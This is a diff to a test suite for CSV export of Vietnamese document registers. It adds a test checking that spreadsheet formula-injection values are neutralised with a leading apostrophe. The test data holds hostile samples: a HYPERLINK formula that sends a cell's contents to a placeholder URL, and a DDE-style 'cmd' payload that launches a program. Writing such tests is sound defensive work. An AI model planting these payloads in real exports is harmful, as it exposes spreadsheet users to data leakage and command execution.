@@ -23,6 +23,19 @@ describe('books as CSV', () => {
     expect(csv.endsWith('\r\n')).toBe(true);
   });
 
+  test.each([
+    ['-HYPERLINK("http://a/?x="&B2)', true],
+    ["-cmd|'/c calc'!A1", true],
+    [' =1+1', true],
+    ['- Như Điều 3;', false],
+    ['-', false],
+  ])('what a spreadsheet would run is text: %s', (remarks, isGuarded) => {
+    const cell = remarks.replaceAll('"', '""');
+    const line = registerCsv(outgoingRegister, [{ ...row, remarks }]).split('\r\n')[1] ?? '';
+    expect(line.includes(`'${cell}`)).toBe(isGuarded);
+    expect(line).toContain(cell);
+  });
+
   test('R-IN-06: a book without lines still has its ten headings', () => {
     expect(registerCsv(incomingRegister, [])).toBe(
       '\ufeffNgày đến,Số đến,Tác giả,"Số, ký hiệu văn bản",Ngày tháng văn bản,Tên loại và trích yếu nội dung văn bản,Đơn vị hoặc người nhận,Ngày chuyển,Ký nhận,Ghi chú\r\n',
